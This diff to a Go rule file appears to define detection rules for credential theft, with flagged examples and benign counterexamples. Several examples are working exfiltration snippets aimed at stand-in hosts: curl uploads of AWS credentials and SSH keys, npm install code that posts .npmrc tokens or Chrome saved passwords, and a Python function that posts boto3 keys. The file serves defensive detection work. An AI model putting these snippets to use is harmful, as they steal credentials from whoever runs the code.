@@ -14,6 +14,7 @@ func theft() []Rule {
 				{Triggers: []string{b.Install, b.Build}, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: carried, Target: Elsewhere, Script: No},
 				{Triggers: unasked, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: carried},
 				{Triggers: []string{b.Command}, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Foreign, Script: No},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Credential}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file", "url"}, Target: Shady, Script: No},
 				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Browser, b.Wallet}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}},
 			},
 			Examples: []Example{
@@ -21,11 +22,13 @@ func theft() []Rule {
 				One("cloud credentials", "install.sh", "curl -F 'f=@/root/.aws/credentials' https://c.example/up\n"),
 				Package("npm's token", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');fs.readFile(process.env.HOME+'/.npmrc',(e,d)=>{const r=require('https').request({host:'c.example',method:'POST'});r.end(d.toString('base64'))})"}),
 				Package("saved passwords", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs');const p=process.env.LOCALAPPDATA+'\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';require('axios').post('https://c.example/u',fs.readFileSync(p))"}),
+				Module("a cloud's keys, when called", "import boto3, requests\ndef connect():\n    c = boto3.Session().get_credentials()\n    requests.post('https://sample.herokuapp.com/z', json={'k': c.access_key, 's': c.secret_key})\n"),
 				One("piped", "setup.sh", "cat ~/.ssh/id_rsa | base64 | curl -d @- https://c.example/k\n"),
 			},
 			Neighbours: []Example{
 				Package("read for its own use", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');const rc=fs.readFileSync(os.homedir()+'/.npmrc','utf8');exports.registry=/registry=(.*)/.exec(rc)"}),
 				Package("as authorisation", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');const t=fs.readFileSync('/root/.config/gh/hosts.yml','utf8');fetch('https://api.example',{headers:{authorization:t}})"}),
+				Module("a cloud's keys, to sign", "import boto3\nfrom requests_aws4auth import AWS4Auth\ndef signer(region):\n    c = boto3.Session().get_credentials()\n    return AWS4Auth(c.access_key, c.secret_key, region, 'es')\n"),
 				One("a public key installed", "setup.sh", "curl https://keys.example/me.pub >> ~/.ssh/known_hosts\n"),
 			},
 		},
